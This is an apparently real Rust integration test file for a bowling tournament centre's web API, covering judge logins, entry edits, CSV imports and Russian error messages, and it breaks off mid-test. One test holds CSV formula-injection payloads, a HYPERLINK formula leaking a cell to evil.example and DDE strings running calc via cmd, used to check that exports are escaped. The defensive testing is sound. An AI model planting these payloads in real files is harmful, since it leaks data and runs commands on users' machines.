//! The centre's entries from its page's API (docs/programme.md, "Entries
//! on the centre's page") and its named logins (docs/centre.md): a real
//! `lanecall centre` process, its broker out of reach (nothing here needs
//! a lane).

use crate::support;

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use support::centre::Centre;
use support::free_port;

const SHARED_PIN: &str = "246810";
const SECRETARY_PIN: &str = "135792";
const SECRETARY: &str = "Pavel Sokolov";

fn temp_dir(name: &str) -> crate::support::Scratch {
    crate::support::Scratch::new(&format!("entries-{name}"))
}

/// A centre config with the example programme, the shared PIN and one
/// secretary with a PIN of their own.
fn config(dir: &Path, web: u16) -> PathBuf {
    let programme = dir.join("programme.toml");
    std::fs::copy("tests/programme/example.toml", &programme).unwrap();
    let shared = lanecall::web::hash_pin(SHARED_PIN).unwrap();
    let own = lanecall::web::hash_pin(SECRETARY_PIN).unwrap();
    let text = format!(
        "site = \"cup\"\nstate_dir = {:?}\nbroker = \"mqtt://127.0.0.1:{}\"\nprogramme = {programme:?}\n\
         [web]\nlisten = \"127.0.0.1:{web}\"\njudge_pin_hash = {shared:?}\n\
         [[web.judges]]\nname = {SECRETARY:?}\npin_hash = {own:?}\n",
        dir.join("state"),
        free_port(),
    );
    let path = dir.join("centre.toml");
    std::fs::write(&path, text).unwrap();
    path
}

fn entry<'v>(entries: &'v Value, name: &str) -> Option<&'v Value> {
    entries["entries"]
        .as_array()?
        .iter()
        .find(|e| e["name"] == name)
}

#[test]
fn a_change_needs_a_login_and_survives_a_restart() {
    let dir = temp_dir("restart");
    let web = free_port();
    let path = config(&dir, web);
    let mut c = Centre::start(&path, web);
    assert_eq!(
        c.get("/api/entries")["entries"].as_array().unwrap().len(),
        6
    );
    let guest = json!({ "entry": { "name": "Nina Guseva", "class": "B3", "sex": "F", "region": "Tver", "handicap": 4 } });
    let (status, v) = c.post(None, "/api/entries/add", &guest);
    assert_eq!(status, 401, "{v}");
    let (status, _) = c.post_as(
        Some("lanecall_session=forged"),
        "/api/entries/import",
        "text/csv",
        "name,class,sex,region\n".as_bytes(),
    );
    assert_eq!(status, 401);
    assert!(entry(&c.get("/api/entries"), "Nina Guseva").is_none());

    let (cookie, name) = c.login(SECRETARY_PIN, "typed name");
    assert_eq!(name, SECRETARY, "a judge's own PIN names them");
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &guest);
    assert_eq!(status, 200, "{v}");
    let bad = json!({ "entry": { "name": "Bad", "class": "B4", "sex": "F", "region": "X", "handicap": 301 } });
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &bad);
    assert_eq!(status, 400);
    assert_eq!(v["problems"][0]["field"], "class", "{v}");
    c.stop();

    let mut c = Centre::start(&path, web);
    let v = c.get("/api/entries");
    assert_eq!(entry(&v, "Nina Guseva").unwrap()["handicap"], 4, "{v}");
    assert_eq!(v["changes"][0]["by"], SECRETARY, "{v}");
    assert_eq!(v["changes"][0]["change"], "add");
    let csv = c.http.request("GET", "/entries.csv", &[], b"").unwrap();
    let csv = String::from_utf8(csv.body).unwrap();
    assert!(csv.contains("\r\nNina Guseva,B3,F,Tver,,4,\r\n"), "{csv}");
}

#[test]
fn a_withdrawn_bowler_is_not_sent_and_pushes_carry_the_judges_name() {
    let dir = temp_dir("withdrawn");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    // The shared PIN: the name typed is the one recorded.
    let (cookie, name) = c.login(SHARED_PIN, "Irina Orlova");
    assert_eq!(name, "Irina Orlova");
    for bowler in ["Sergei Volkov", "Yulia Frolova"] {
        let body = json!({ "name": bowler, "withdrawn": true });
        let (status, v) = c.post(Some(&cookie), "/api/entries/withdraw", &body);
        assert_eq!(status, 200, "{v}");
    }
    let v = c.get("/api/entries");
    assert_eq!(entry(&v, "Yulia Frolova").unwrap()["withdrawn"], true);
    assert_eq!(v["changes"][0]["by"], "Irina Orlova");
    // In use by block S1: withdrawn, never deleted.
    let (status, v) = c.post(
        Some(&cookie),
        "/api/entries/delete",
        &json!({ "name": "Yulia Frolova" }),
    );
    assert_eq!(status, 409, "{v}");
    assert!(entry(&c.get("/api/entries"), "Yulia Frolova").is_some());

    let (status, v) = c.post(Some(&cookie), "/api/push", &json!({ "block": "S1" }));
    assert_eq!(status, 200, "{v}");
    let pushes = c.get("/api/pushes");
    let lanes: Vec<&String> = pushes[0]["lanes"].as_object().unwrap().keys().collect();
    assert_eq!(
        lanes,
        ["1", "2"],
        "lane 3 has only withdrawn bowlers: {pushes}"
    );
    assert_eq!(pushes[0]["by"], "Irina Orlova");
    // Typed by hand: refused too.
    let by_hand =
        json!({ "block": "X", "lanes": { "9": [{ "name": "Sergei Volkov", "class": "B2" }] } });
    let (status, v) = c.post(Some(&cookie), "/api/push", &by_hand);
    assert_eq!(status, 400, "{v}");
    assert!(v["error"].as_str().unwrap().contains("withdrawn"), "{v}");

    let (own, _) = c.login(SECRETARY_PIN, "");
    let hold = json!({ "lane": 1, "on": true, "reason": "ball return" });
    assert_eq!(c.post(Some(&own), "/api/hold", &hold).0, 200);
    assert_eq!(c.get("/api/pushes")[0]["by"], SECRETARY);
}

#[test]
fn an_import_with_an_error_changes_nothing_and_a_good_one_replaces_the_entries() {
    let dir = temp_dir("import");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let before = c.get("/api/entries");
    let csv = c
        .http
        .request("GET", "/entries.csv", &[], b"")
        .unwrap()
        .body;
    let csv = String::from_utf8(csv).unwrap();
    let bad = csv.clone() + "Nina Guseva,B3,F,Tver,,,\r\nBad Row,B3,Q,Tver,,,\r\n";
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        bad.as_bytes(),
    );
    assert_eq!(status, 400, "{v}");
    assert_eq!(v["problems"][0]["row"], 9, "{v}");
    assert_eq!(v["problems"][0]["column"], 3, "{v}");
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);

    // As a spreadsheet saves it: semicolons, every existing bowler and one more.
    let good = csv.replace(',', ";") + "Nina Guseva;B3;F;Tver;;;\r\n";
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        good.as_bytes(),
    );
    assert_eq!(status, 200, "{v}");
    let after = c.get("/api/entries");
    assert_eq!(after["entries"].as_array().unwrap().len(), 7);
    assert_eq!(after["changes"][0]["change"], "import");
    assert_eq!(after["changes"][0]["added"], json!(["Nina Guseva"]));
    assert_eq!(after["changes"][0]["by"], SECRETARY);
}

/// A secretary's file: a byte order mark, semicolons, Russian headers,
/// Cyrillic `В2`, `М`, `м`; one bowler changed, one new.
const RUSSIAN_CSV: &str = "\u{FEFF}Фамилия Имя; Класс ;Пол;Регион;Команда;Гандикап\r\n\
                           Sergei Volkov;В2;М;Tula;;10\r\n\
                           Пётр Седов;В3;м;Тверь;;\r\n";

fn names(v: &Value) -> Vec<String> {
    v["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["name"].as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn an_import_says_what_it_would_do_adds_to_the_list_and_is_undone() {
    let dir = temp_dir("preview");
    let web = free_port();
    let path = config(&dir, web);
    let mut c = Centre::start(&path, web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let nina =
        json!({ "entry": { "name": "Nina Guseva", "class": "B3", "sex": "F", "region": "Tver" } });
    let (status, v) = c.post(Some(&cookie), "/api/entries/add", &nina);
    assert_eq!(status, 200, "{v}");
    let before = c.get("/api/entries");
    assert_eq!(before["undo_import"], false, "{before}");
    let import = |c: &mut Centre, query: &str, body: &str| {
        let path = format!("/api/entries/import{query}");
        c.post_as(Some(&cookie), &path, "text/csv", body.as_bytes())
    };

    // What "add to the list" would do, by name; nothing done.
    let (status, v) = import(&mut c, "?mode=add&dry_run=1", RUSSIAN_CSV);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["added"], json!(["Пётр Седов"]), "{v}");
    assert_eq!(v["changed"], json!(["Sergei Volkov"]), "{v}");
    assert_eq!(v["removed"], json!([]), "{v}");
    assert_eq!(v["entries"], 8, "{v}");
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);

    // Replacing the list with it would leave out bowlers on a block's
    // lanes: the preview says so as the import would.
    let (status, v) = import(&mut c, "?mode=replace&dry_run=1", RUSSIAN_CSV);
    assert_eq!(status, 409, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("cannot be left out"),
        "{v}"
    );
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
    let (status, v) = import(&mut c, "?mode=merge", RUSSIAN_CSV);
    assert_eq!(status, 400, "{v}");

    // Added: the bowler added by hand stays.
    let (status, v) = import(&mut c, "?mode=add", RUSSIAN_CSV);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["undo_import"], true, "{v}");
    assert_eq!(v["changes"][0]["mode"], "add", "{v}");
    assert_eq!(v["changes"][0]["changed"], json!(["Sergei Volkov"]), "{v}");
    let mut expected = names(&before);
    expected.push("Пётр Седов".into());
    assert_eq!(names(&v), expected);
    let petr = entry(&v, "Пётр Седов").unwrap();
    assert_eq!((&petr["class"], &petr["sex"]), (&json!("B3"), &json!("M")));
    assert_eq!(entry(&v, "Sergei Volkov").unwrap()["handicap"], 10);

    // Undone, after a restart: the list as it was, once.
    c.stop();
    let mut c = Centre::start(&path, web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    assert_eq!(c.get("/api/entries")["undo_import"], true);
    let undo = |c: &mut Centre| {
        c.post_as(
            Some(&cookie),
            "/api/entries/import?undo=1",
            "application/json",
            b"{}",
        )
    };
    let (status, v) = undo(&mut c);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["entries"], before["entries"], "{v}");
    assert_eq!(v["undo_import"], false, "{v}");
    assert_eq!(v["changes"][0]["change"], "undo_import", "{v}");
    assert_eq!(v["changes"][0]["removed"], json!(["Пётр Седов"]), "{v}");
    let (status, v) = undo(&mut c);
    assert_eq!(status, 409, "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("no import to undo"),
        "{v}"
    );
}

#[test]
fn an_import_lists_every_problem_at_once_and_requires_its_columns() {
    let dir = temp_dir("problems");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let mut import = |body: &str| {
        c.post_as(
            Some(&cookie),
            "/api/entries/import?mode=add",
            "text/csv",
            body.as_bytes(),
        )
    };
    let (status, v) = import("Имя;Пол;Регион\nПётр Седов;М;Тверь\n");
    assert_eq!(status, 400, "{v}");
    assert_eq!(
        v["error"], "row 1, class: there is no column \"class\"",
        "{v}"
    );
    let (status, v) = import(
        "Фамилия Имя;Класс;Пол;Регион\n\
         Пётр Седов;В4;М;Тверь\n\
         Олег Белов;В3;М;\n\
         Пётр Седов;В3;М;Тверь\n",
    );
    assert_eq!(status, 400, "{v}");
    let lines: Vec<&str> = v["error"].as_str().unwrap().lines().collect();
    assert_eq!(
        lines,
        [
            "row 2, column 2 (class): \"В4\" is not a class: B1, B2 or B3",
            "row 3, column 4 (region): the region is empty: write the bowler's region",
            "row 4, column 1 (name): \"Пётр Седов\" is entered twice: on row 2 too",
        ],
        "{v}"
    );
}

/// `tests/browser/entries.mjs` in headless Chromium, as tests/centre/centre.rs
/// runs the page's other script: skipped when node, chromium or `npm ci`
/// in tests/browser are missing, except under CI.
#[test]
fn entries_are_imported_and_edited_on_the_page_in_a_real_browser() {
    if !support::browser_tools() {
        return;
    }
    let dir = temp_dir("browser");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    support::run_browser("entries.mjs", web, SECRETARY_PIN);
    // What the page did is on the centre's disk.
    let kept = std::fs::read_to_string(dir.join("state/entries.toml")).unwrap();
    assert!(kept.contains("name = \"Nina Guseva\""), "{kept}");
    assert!(kept.contains("handicap = 15"), "{kept}");
    assert!(!kept.contains("Пётр Седов"), "the import undone: {kept}");
    assert_eq!(
        entry(&c.get("/api/entries"), "Nina Guseva").unwrap()["handicap"],
        15
    );
}

/// Splits CSV text (RFC 4180, commas, CRLF lines, a byte order mark
/// first or not) into rows of values, unquoted.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{FEFF}').unwrap_or(text);
    let (mut rows, mut row, mut value) = (Vec::new(), Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                value.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => value.push(c),
            (false, '"') if value.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut value)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "lines end in CRLF");
                row.push(std::mem::take(&mut value));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => value.push(c),
        }
    }
    assert!(value.is_empty() && row.is_empty(), "the last line ends too");
    rows
}

/// Whether a spreadsheet opening the file would take `value` for a
/// formula: it starts with `=`, `+`, `-`, `@`, a tab or a carriage return
/// and is not a plain number.
fn runs(value: &str) -> bool {
    let number = value.strip_prefix('-').unwrap_or(value);
    let number = !number.is_empty() && number.bytes().all(|b| b.is_ascii_digit());
    value
        .trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
        && !number
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Anna\")";
const DDE: &str = "+cmd|' /C calc'!A0";
const DDE_MINUS: &str = "-2+3+cmd|' /C calc'!A0";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

#[test]
fn the_centres_csv_files_hold_names_and_regions_as_data_not_formulas() {
    let dir = temp_dir("formulas");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    for (name, region, team) in [(HYPERLINK, DDE, AT), (DDE_MINUS, "@Tula", "=1+1")] {
        let add = json!({ "entry": { "name": name, "class": "B2", "sex": "F", "region": region, "team": team } });
        let (status, v) = c.post(Some(&cookie), "/api/entries/add", &add);
        assert_eq!(status, 200, "{v}");
    }
    let before = c.get("/api/entries");
    assert_eq!(entry(&before, HYPERLINK).unwrap()["region"], DDE);

    // Both files, read with no login: no cell a spreadsheet would run.
    for path in ["/entries.csv", "/results.csv"] {
        let r = c.http.request("GET", path, &[], b"").unwrap();
        assert_eq!(r.status, 200, "{path}");
        let text = String::from_utf8(r.body).unwrap();
        let rows = csv_rows(&text);
        for row in &rows {
            for value in row {
                assert!(!runs(value), "{path}: {value:?} in {row:?}");
            }
        }
        for typed in [HYPERLINK, DDE, AT, DDE_MINUS, "@Tula", "=1+1"] {
            let marked = format!("'{typed}");
            assert!(
                rows.iter().any(|r| r.contains(&marked)),
                "{path} has {marked:?}: {text}"
            );
        }
    }
    let entries = c
        .http
        .request("GET", "/entries.csv", &[], b"")
        .unwrap()
        .body;
    let text = String::from_utf8(entries).unwrap();
    // The handicap, a number the centre writes, is still one.
    assert!(
        text.contains("\r\nSergei Volkov,B2,M,Tula,,8,\r\n"),
        "{text}"
    );

    // The file imported back: the same entries, as they were typed.
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        text.as_bytes(),
    );
    assert_eq!(status, 200, "{v}");
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
}

/// The peak of the process's resident memory in kB (`VmHWM`).
fn peak_kb(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
    line.split_whitespace().nth(1).unwrap().parse().unwrap()
}

#[test]
fn a_mebibyte_of_bad_rows_answers_the_first_hundred_problems_and_how_many_more() {
    let dir = temp_dir("all-bad");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SECRETARY_PIN, "");
    let before = c.get("/api/entries");

    // A 1 MiB file whose every row has a wrong class and a wrong sex, and
    // after the first, a name entered twice.
    let head = "name,class,sex,region\r\n";
    let row = "Anna Kuznetsova,B9,Q,Moscow\r\n";
    let rows = ((1 << 20) - head.len()) / row.len();
    let file = head.to_owned() + &row.repeat(rows);
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        file.as_bytes(),
    );
    assert_eq!(status, 400, "{}", v.to_string().len());
    let problems = v["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 100);
    assert_eq!(v["more_problems"], 3 * rows - 1 - 100);
    assert_eq!(problems[0]["row"], 2);
    assert_eq!(problems[0]["column"], 2);
    assert_eq!(problems[99]["row"], 35);
    let said = v["error"].as_str().unwrap();
    assert!(
        said.ends_with(&format!(
            "… and {} more problems, not listed: mend these and import again",
            3 * rows - 1 - 100
        )),
        "{said}"
    );
    // Nothing already recorded is lost, and the centre's memory stays
    // small (it was 900 MB here, reading the same file).
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
    let peak = peak_kb(c.child.id());
    assert!(peak < 150 * 1024, "the centre's peak: {peak} kB");

    // A file over 1 MiB: said, not read.
    let big = file + &row.repeat(100);
    let (status, v) = c.post_as(
        Some(&cookie),
        "/api/entries/import",
        "text/csv",
        big.as_bytes(),
    );
    assert_eq!(status, 400, "{v}");
    assert_eq!(
        v["error"],
        format!("the file is {} bytes: at most 1048576 (1 MiB)", big.len())
    );
    assert_eq!(c.get("/api/entries")["entries"], before["entries"]);
}

/// A centre with the example programme whose mirror holds block S1 bowled
/// on lanes 1 to 3 and the B1 round robin (RR-B1, its lane set on the
/// page: lane 7, Anna Kuznetsova and Olga Smirnova) started, and lane 3's
/// S2 bowled by "Iwan Petrow" and Dmitri Orlov (no entry is "Iwan Petrow"
/// yet: as a lane bowls a lineup pushed after Ivan Petrov's name is
/// corrected); the shared PIN and the secretary's own.
fn bowled_centre(dir: &Path) -> (Centre, PathBuf) {
    let state = dir.join("state");
    let journals = [
        (1, 1, "Anna Kuznetsova", "Olga Smirnova"),
        (2, 1, "Ivan Petrov", "Dmitri Orlov"),
        (3, 1, "Sergei Volkov", "Yulia Frolova"),
        (7, 1, "Anna Kuznetsova", "Olga Smirnova"),
        (3, 2, "Iwan Petrow", "Dmitri Orlov"),
    ];
    for (lane, seq, first, second) in journals {
        let folder = state.join("lanes").join(lane.to_string());
        std::fs::create_dir_all(&folder).unwrap();
        let file = folder.join(format!(
            "lane{lane}-2026112{}T100000Z-{seq:06}.jsonl",
            7 + seq
        ));
        std::fs::write(file, support::bowled_journal(lane, seq, first, second)).unwrap();
    }
    std::fs::write(
        state.join("blocks.toml"),
        "programme_title = \"Moscow Open, ten-pin bowling for the blind\"\n\
         [[block]]\nid = \"RR-B1\"\nlanes = { 7 = [\"Anna Kuznetsova\", \"Olga Smirnova\"] }\n",
    )
    .unwrap();
    let web = free_port();
    let path = config(dir, web);
    let text = std::fs::read_to_string(&path)
        .unwrap()
        .replace("[web]", "lanes = \"1-8\"\n[web]");
    std::fs::write(&path, text).unwrap();
    let mut c = Centre::start(&path, web);
    support::eventually("the mirror's journals in the standings", || {
        let s = c.get("/api/standings");
        let games = |name: &str| {
            s["categories"]
                .as_array()
                .into_iter()
                .flatten()
                .flat_map(|c| c["entries"].as_array().into_iter().flatten())
                .find(|e| e["name"] == name)
                .map_or(0, |e| e["games"].as_array().map_or(0, Vec::len))
        };
        if games("Ivan Petrov") == 1 && games("Sergei Volkov") == 1 && games("Anna Kuznetsova") == 1
        {
            Ok(())
        } else {
            Err(s.to_string())
        }
    });
    (c, path)
}

fn edit(name: &str, class: &str, confirm: bool) -> Value {
    let e = match name {
        "Sergei Volkov" => {
            json!({ "name": name, "class": class, "sex": "M", "region": "Tula", "handicap": 8 })
        }
        _ => {
            json!({ "name": name, "class": class, "sex": "F", "region": "Moscow", "team": "Moscow" })
        }
    };
    json!({ "name": name, "entry": e, "confirm": confirm })
}

/// The line of `name` in the standings, if any.
fn line(s: &Value, name: &str) -> Option<Value> {
    s["categories"]
        .as_array()?
        .iter()
        .flat_map(|c| c["entries"].as_array().into_iter().flatten())
        .find(|e| e["name"] == name)
        .cloned()
}

#[test]
fn a_bowled_bowlers_class_needs_the_chief_and_a_confirmation_and_a_name_is_corrected_with_its_games()
 {
    let dir = temp_dir("bowled");
    let (mut c, path) = bowled_centre(&dir);
    let (secretary, _) = c.login(SECRETARY_PIN, "");
    let (chief, _) = c.login(SHARED_PIN, "Irina Orlova");

    // B2 has bowled S1 and has no finals: the chief only, once confirmed.
    let (status, v) = c.post(
        Some(&secretary),
        "/api/entries/edit",
        &edit("Sergei Volkov", "B3", true),
    );
    assert_eq!(status, 409, "{v}");
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("only the chief judge"),
        "{v}"
    );
    let (status, v) = c.post(
        Some(&chief),
        "/api/entries/edit",
        &edit("Sergei Volkov", "B3", false),
    );
    assert_eq!(status, 409, "{v}");
    let moves = v["confirm"].to_string();
    assert!(
        moves.contains("Sergei Volkov: class B2 → B3")
            && moves.contains("Sergei Volkov leaves category B2 and joins B3"),
        "{v}"
    );
    assert_eq!(
        entry(&c.get("/api/entries"), "Sergei Volkov").unwrap()["class"],
        "B2"
    );
    let (status, v) = c.post(
        Some(&chief),
        "/api/entries/edit",
        &edit("Sergei Volkov", "B3", true),
    );
    assert_eq!(status, 200, "{v}");
    assert_eq!(entry(&v, "Sergei Volkov").unwrap()["class"], "B3");
    assert_eq!(v["changes"][0]["confirmed_by_chief"], true, "{v}");

    // B1's round robin has games: never, even for the chief.
    let (status, v) = c.post(
        Some(&chief),
        "/api/entries/edit",
        &edit("Anna Kuznetsova", "B2", true),
    );
    assert_eq!(status, 409, "{v}");
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("the finals of B1 have started"),
        "{v}"
    );
    assert_eq!(
        entry(&c.get("/api/entries"), "Anna Kuznetsova").unwrap()["class"],
        "B1"
    );

    // A name corrected by any judge, even after bowling: the lane's
    // journal keeps "Ivan Petrov", the centre shows the new name with the
    // old games and the games bowled under the new name (one bowler), and
    // a restart keeps it.
    let s = c.get("/api/standings");
    let before = line(&s, "Ivan Petrov").unwrap();
    assert_eq!(before["games"], json!([173]), "{s}");
    assert!(s["unplaced"].to_string().contains("Iwan Petrow"), "{s}");
    let fix = json!({ "name": "Ivan Petrov", "entry": { "name": "Iwan Petrow", "class": "B1", "sex": "M", "region": "Moscow", "team": "Moscow" } });
    let (status, v) = c.post(Some(&secretary), "/api/entries/edit", &fix);
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["renamed"][0]["from"], "Ivan Petrov", "{v}");
    assert_eq!(v["renamed"][0]["to"], "Iwan Petrow");
    assert_eq!(v["renamed"][0]["by"], SECRETARY);
    c.stop();
    let mut c = Centre::start(&path, c_web(&path));
    let (chief, _) = c.login(SHARED_PIN, "Irina Orlova");
    let s = c.get("/api/standings");
    let after = line(&s, "Iwan Petrow").unwrap_or_else(|| panic!("{s}"));
    assert_eq!(
        after["games"],
        json!([173, 173]),
        "S1 as Ivan Petrov, S2 as Iwan Petrow: {s}"
    );
    assert!(!s.to_string().contains("Ivan Petrov"), "{s}");
    assert_eq!(
        s["unplaced"],
        json!([]),
        "the journal is still placed in S1"
    );
    let csv = c.http.request("GET", "/results.csv", &[], b"").unwrap();
    let csv = String::from_utf8(csv.body).unwrap();
    assert!(
        csv.contains("Iwan Petrow") && !csv.contains("Ivan Petrov"),
        "{csv}"
    );
    // The blocks still to bowl name the bowler as corrected: the lanes
    // journal the new name, and both names are one bowler's.
    let p = c.get("/api/programme").to_string();
    assert!(
        p.contains("Iwan Petrow") && !p.contains("Ivan Petrov"),
        "{p}"
    );
    // The name a lane bowled under is not another entry's to take.
    let mut taken = edit("Dmitri Orlov", "B1", true);
    taken["entry"]["name"] = "Ivan Petrov".into();
    let (status, v) = c.post(Some(&chief), "/api/entries/edit", &taken);
    assert_eq!(status, 409, "{v}");
    assert!(v["error"].as_str().unwrap().contains("bowled under"), "{v}");
}

/// The web port written in the centre's config at `path`.
fn c_web(path: &Path) -> u16 {
    let text = std::fs::read_to_string(path).unwrap();
    let listen = text.split("listen = \"127.0.0.1:").nth(1).unwrap();
    listen.split('"').next().unwrap().parse().unwrap()
}

/// Every refusal the centre answers a Russian page (`Accept-Language:
/// ru`) carries its Russian (`error_ru`, each problem's `message_ru`,
/// src/centre/say.rs) beside the English, with no part left unsaid; an
/// English page gets the English alone.
#[test]
fn every_refusal_is_said_in_russian_to_a_russian_page() {
    let dir = temp_dir("russian");
    let web = free_port();
    let mut c = Centre::start(&config(&dir, web), web);
    let (cookie, _) = c.login(SHARED_PIN, "Irina Orlova");
    let (status, v) = c.post(
        Some(&cookie),
        "/api/entries/withdraw",
        &json!({ "name": "Sergei Volkov", "withdrawn": true }),
    );
    assert_eq!(status, 200, "{v}");
    let bad_csv = "name,class,sex,region\nAnna,B4,X,\nAnna,В1,M,Tula\nBob,B2,M,Tula,extra\n";
    let j = "application/json";
    // (what, method, path, content type, body, with the judge's cookie)
    let asks: Vec<(&str, &str, &str, &str, String, bool)> = vec![
        ("a wrong PIN", "POST", "/api/login", j, json!({"pin": "999999", "name": "X"}).to_string(), false),
        ("a short PIN", "POST", "/api/login", j, json!({"pin": "12"}).to_string(), false),
        ("no login", "POST", "/api/entries/add", j, "{}".into(), false),
        ("a bad entry", "POST", "/api/entries/add", j,
            json!({"entry": {"name": "Bad", "class": "B4", "sex": "X", "region": "", "handicap": 301}}).to_string(), true),
        ("no entry object", "POST", "/api/entries/add", j, "{}".into(), true),
        ("a twice-entered name", "POST", "/api/entries/add", j,
            json!({"entry": {"name": "Anna Kuznetsova", "class": "B1", "sex": "F", "region": "Moscow"}}).to_string(), true),
        ("a rename to another's name", "POST", "/api/entries/edit", j,
            json!({"name": "Yulia Frolova", "entry": {"name": "Olga Smirnova", "class": "B2", "sex": "F", "region": "Tula"}}).to_string(), true),
        ("a delete of a bowler in a block", "POST", "/api/entries/delete", j, json!({"name": "Yulia Frolova"}).to_string(), true),
        ("no such entry", "POST", "/api/entries/withdraw", j, json!({"name": "Nobody", "withdrawn": true}).to_string(), true),
        ("no name", "POST", "/api/entries/delete", j, "{}".into(), true),
        ("a CSV with mistakes", "POST", "/api/entries/import", "text/csv", bad_csv.into(), true),
        ("a CSV without its columns", "POST", "/api/entries/import", "text/csv", "name,colour\nAnna,red\n".into(), true),
        ("an empty CSV", "POST", "/api/entries/import", "text/csv", String::new(), true),
        ("no import to undo", "POST", "/api/entries/import?undo=1", "text/csv", String::new(), true),
        ("a bad query", "POST", "/api/entries/import?dry_run=maybe", "text/csv", String::new(), true),
        ("a push of nothing", "POST", "/api/push", j, "{}".into(), true),
        ("a push of no block", "POST", "/api/push", j, json!({"block": "NOPE"}).to_string(), true),
        ("a push of a block without lanes", "POST", "/api/push", j, json!({"block": "RR-B1"}).to_string(), true),
        ("a push to no lane", "POST", "/api/push", j, json!({"block": "X", "lanes": {"x": []}}).to_string(), true),
        ("a push of no list", "POST", "/api/push", j, json!({"block": "X", "lanes": {"7": 5}}).to_string(), true),
        ("a push of a withdrawn bowler", "POST", "/api/push", j,
            json!({"block": "X", "lanes": {"7": [{"name": "Sergei Volkov", "class": "B2"}]}}).to_string(), true),
        ("a long block", "POST", "/api/push", j, json!({"block": "B".repeat(70)}).to_string(), true),
        ("a bad hold", "POST", "/api/hold", j, json!({"lane": 0}).to_string(), true),
        ("no such push", "POST", "/api/pushes/cancel", j, json!({"push": 999}).to_string(), true),
        ("a bad cancel", "POST", "/api/pushes/cancel", j, "{}".into(), true),
        ("a bad lane to cancel", "POST", "/api/pushes/cancel", j, json!({"push": 1, "lane": 999}).to_string(), true),
        ("no such block's lanes", "POST", "/api/blocks/lanes", j, json!({"block": "NOPE", "lanes": {"1": ["Anna Kuznetsova"]}}).to_string(), true),
        ("a stranger on a lane", "POST", "/api/blocks/lanes", j, json!({"block": "S1", "lanes": {"1": ["Nobody"]}}).to_string(), true),
        ("a withdrawn bowler on a lane", "POST", "/api/blocks/lanes", j, json!({"block": "S1", "lanes": {"1": ["Sergei Volkov"]}}).to_string(), true),
        ("a bowler on two lanes", "POST", "/api/blocks/lanes", j,
            json!({"block": "S1", "lanes": {"1": ["Anna Kuznetsova"], "2": ["Anna Kuznetsova"]}}).to_string(), true),
        ("no roll-off", "POST", "/api/finals/roll-off", j, json!({"block": "SL1-B1", "winner": "Anna Kuznetsova"}).to_string(), true),
        ("not JSON", "POST", "/api/hold", "text/plain", "{}".into(), true),
        ("broken JSON", "POST", "/api/hold", j, "{".into(), true),
        ("no such route", "GET", "/api/nope", j, String::new(), false),
        ("no such file", "GET", "/centre/nope.js", j, String::new(), false),
        ("no such start list", "GET", "/startlist.txt?block=ZZ", j, String::new(), false),
    ];
    let placeholder = |s: &str| (1..=9).any(|n| s.contains(&format!("{{{n}}}")));
    let cyrillic = |s: &str| {
        s.chars()
            .any(|ch| ('а'..='я').contains(&ch.to_lowercase().next().unwrap_or(ch)))
    };
    let mut unsaid = Vec::new();
    for (what, method, path, kind, body, judged) in &asks {
        let mut headers = vec![
            ("Content-Type", *kind),
            ("Accept-Language", "ru-RU,ru;q=0.9"),
        ];
        if *judged {
            headers.push(("Cookie", cookie.as_str()));
        }
        let r = c
            .http
            .request(method, path, &headers, body.as_bytes())
            .unwrap();
        assert!(
            r.status >= 400,
            "{what}: {} {}",
            r.status,
            String::from_utf8_lossy(&r.body)
        );
        let v: Value = serde_json::from_slice(&r.body).unwrap_or(Value::Null);
        assert!(v["error"].is_string(), "{what}: the English stays: {v}");
        let ru = v["error_ru"].as_str().unwrap_or("");
        if ru.is_empty() || placeholder(ru) || !cyrillic(ru) {
